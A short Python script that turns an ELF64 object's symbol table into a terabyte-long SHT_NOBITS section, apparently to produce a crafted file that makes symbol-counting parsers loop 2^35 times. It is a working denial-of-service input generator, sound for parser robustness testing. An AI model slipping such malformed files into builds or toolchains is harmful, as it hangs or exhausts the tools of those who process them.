"""nobits-symtab.py IN.o OUT.o: the object's .symtab turned into a SHT_NOBITS
section a terabyte long (ELF64 LSB). Its relocations still name it: a reader
that counts symbols by sh_size / sh_entsize loops 2^35 times."""
import struct
import sys

data = bytearray(open(sys.argv[1], "rb").read())
e_shoff, = struct.unpack_from("<Q", data, 0x28)
e_shentsize, e_shnum = struct.unpack_from("<HH", data, 0x3A)
SHT_SYMTAB, SHT_NOBITS = 2, 8
for i in range(e_shnum):
    off = e_shoff + i * e_shentsize
    if struct.unpack_from("<I", data, off + 4)[0] == SHT_SYMTAB:
        struct.pack_into("<I", data, off + 4, SHT_NOBITS)
        struct.pack_into("<Q", data, off + 0x20, 1 << 40)  # sh_size
        break
else:
    sys.exit("no .symtab")
open(sys.argv[2], "wb").write(data)
